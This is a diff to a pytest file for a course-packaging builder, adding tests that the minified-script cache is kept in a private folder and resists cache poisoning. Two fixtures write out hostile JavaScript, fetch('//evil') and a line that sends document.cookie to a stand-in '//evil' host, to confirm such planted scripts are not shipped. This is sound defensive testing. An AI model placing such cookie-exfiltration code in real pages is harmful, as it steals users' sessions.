@@ -4,10 +4,15 @@ from __future__ import annotations
 
 import gzip
 import hashlib
+import os
+import stat
 import subprocess
 import sys
+import tempfile
 import zipfile
 from pathlib import Path
+
+import pytest
 
 from builder.assets import minify, shipped, shipped_bytes
 
@@ -63,22 +68,82 @@ def test_a_course_override_is_minified_too(new_course, run, tmp_path):
         assert archive.read("assets/notes.txt") == b"  left  as  it  is  \n"
 
 
-def test_minified_files_are_kept_in_the_cache_folder_for_the_next_process(tmp_path, monkeypatch):
+@pytest.fixture
+def private_temp(tmp_path, monkeypatch):
+    """A temp folder of the test's own (for private_folder), and a process that keeps minified scripts."""
+    from builder import assets
+
+    temp = tmp_path / "temp"
+    temp.mkdir()
+    monkeypatch.setattr(tempfile, "tempdir", str(temp))
+    assets.keep_in(tmp_path / "cache")
+    assets.minify.cache_clear()
+    yield temp
+    assets.keep_in(None)
+    assets.minify.cache_clear()
+
+
+POSIX_ONLY = pytest.mark.skipif(not hasattr(os, "getuid"), reason="owners and modes: on Windows the temp folder is the user's")
+
+
+@POSIX_ONLY
+def test_minified_scripts_are_kept_for_the_next_process_in_a_private_folder(private_temp, monkeypatch):
     from builder import assets
 
     source = (STATIC / "coursepack.js").read_bytes() + b"\nvar edited = 1;\n"  # not in templates/minified/
     expected = assets.MINIFIERS[".js"](source)
-    assets.keep_in(tmp_path)
-    try:
-        assets.minify.cache_clear()
-        assert assets.minify(source, ".js") == expected
-        assert [p.name for p in (tmp_path / assets.CACHE_SUBFOLDER).rglob("*.js")]
-        assets.minify.cache_clear()  # as in a new process: only the folder remembers
-        monkeypatch.setitem(assets.MINIFIERS, ".js", lambda data: b"parsed again")
-        assert assets.minify(source, ".js") == expected
-    finally:
-        assets.keep_in(None)
-        assets.minify.cache_clear()
+    assert assets.minify(source, ".js") == expected
+    [folder] = private_temp.iterdir()
+    assert folder.name == f"coursepack-minified-{os.getuid()}" and stat.S_IMODE(folder.stat().st_mode) == 0o700
+    assert [p.suffix for p in folder.rglob("*.*")] == [".js"]
+    assets.minify.cache_clear()  # as in a new process: only the folder remembers
+    monkeypatch.setitem(assets.MINIFIERS, ".js", lambda data: b"parsed again")
+    assert assets.minify(source, ".js") == expected
+    assert assets.minify(b"p { color: red; }", ".css") == b"p{color:red}" and not list(folder.rglob("*.css"))
+
+
+@POSIX_ONLY
+@pytest.mark.parametrize("spoil", ["others may write it", "another user's", "a link"])
+def test_a_private_folder_others_could_have_written_is_not_used(private_temp, spoil, monkeypatch):
+    from builder import assets
+
+    source = b"var planted = 'no';\n"
+    folder = private_temp / f"coursepack-minified-{os.getuid()}"
+    if spoil == "a link":
+        (private_temp / "elsewhere").mkdir(mode=0o700)
+        folder.symlink_to(private_temp / "elsewhere")
+    else:
+        folder.mkdir(mode=0o700)
+        folder.chmod(0o777 if spoil == "others may write it" else 0o700)
+    if spoil == "another user's":
+        monkeypatch.setattr(os, "getuid", lambda: os.stat(folder).st_uid + 1)
+        folder = folder.rename(private_temp / f"coursepack-minified-{os.getuid()}")
+    key = hashlib.sha256(f"{assets._recipe()} .js ".encode() + source).hexdigest()
+    (folder / key[:2]).mkdir()
+    (folder / key[:2] / f"{key}.js").write_bytes(b"fetch('//evil')")
+    assert assets.private_folder() is None
+    assert assets.minify(source, ".js") == b"var planted='no';"
+
+
+def test_a_script_planted_in_the_cache_folder_is_not_packaged(new_course, run, tmp_path, private_temp):
+    """Anyone who can write the cache folder beside the courses (a shared repository, a CI cache) could put
+    a script there under the key a build looked up: packages must carry the course's own script only."""
+    from builder import assets
+
+    script = b"// greeting\nvar greeting = 'hello';   // kept\n"
+    static = new_course / "templates" / "static"
+    static.mkdir(parents=True)
+    (static / "extra.js").write_bytes(script)
+    assert run("build", new_course, "--out", tmp_path / "dist").exit_code == 0
+    key = hashlib.sha256(f"{assets._recipe()} .js ".encode() + script).hexdigest()
+    cache = tmp_path / "courses" / ".coursepack-cache"
+    for planted in [cache / "minified" / key[:2] / f"{key}.js", cache / key[:2] / f"{key}.js"]:
+        planted.parent.mkdir(parents=True, exist_ok=True)
+        planted.write_bytes(b"new Image().src='//evil/'+document.cookie")
+    assets.minify.cache_clear()  # as in a new process
+    assert run("build", new_course, "--out", tmp_path / "dist", "--force").exit_code == 0
+    with zipfile.ZipFile(tmp_path / "dist" / "town-course-0.1.0-offline.zip") as archive:
+        assert archive.read("assets/extra.js") == b"var greeting='hello';"
 
 
 def test_own_scripts_and_stylesheets_are_committed_minified_and_match_their_sources():
